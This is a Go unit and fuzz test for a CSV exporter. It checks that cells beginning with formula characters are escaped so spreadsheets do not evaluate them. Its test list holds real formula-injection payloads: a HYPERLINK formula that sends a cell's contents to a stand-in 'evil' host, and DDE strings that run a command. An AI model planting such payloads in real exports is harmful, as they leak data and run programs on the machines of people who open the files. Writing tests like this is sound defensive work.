package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// opensAsFormula reports a cell a spreadsheet would evaluate.
func opensAsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

func TestKnownInjectionsAreNeutralised(t *testing.T) {
	for _, attack := range []string{
		`=HYPERLINK("http://evil/?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "=1\n=2",
	} {
		got := roundTrip(t, []string{attack, "plain"})
		if opensAsFormula(got[0]) || got[0] != "'"+attack || got[1] != "plain" {
			t.Errorf("%q came out as %q", attack, got)
		}
	}
}

// roundTrip writes a record and reads it back as a spreadsheet would.
func roundTrip(t testing.TB, record []string) []string {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.LazyQuotes = true
	got, err := r.Read()
	if err != nil {
		t.Fatalf("%q: %v", record, err)
	}
	return got
}

func FuzzCSVCellsNeverOpenAsFormulas(f *testing.F) {
	for _, seed := range []string{"=1+1", "hello", "", "\"=x\"", "'=x", "\r\n=1", " =1", "a,=b"} {
		f.Add(seed, "="+seed)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if strings.ContainsRune(a+b, 0) || !utf8Valid(a+b) {
			t.Skip("csv cannot round-trip NUL or invalid UTF-8; hark's text has neither (twitter.Clean)")
		}
		got := roundTrip(t, []string{a, b})
		for i, cell := range got {
			if opensAsFormula(cell) {
				t.Errorf("cell %d %q opens as a formula", i, cell)
			}
		}
		for i, in := range []string{a, b} {
			if want := SafeCell(in); strings.ReplaceAll(want, "\r\n", "\n") != strings.ReplaceAll(got[i], "\r\n", "\n") && !strings.Contains(in, "\r") {
				t.Errorf("cell %d: wrote %q, read %q", i, want, got[i])
			}
		}
	})
}

func utf8Valid(s string) bool { return strings.ToValidUTF8(s, "\uFFFD") == s }
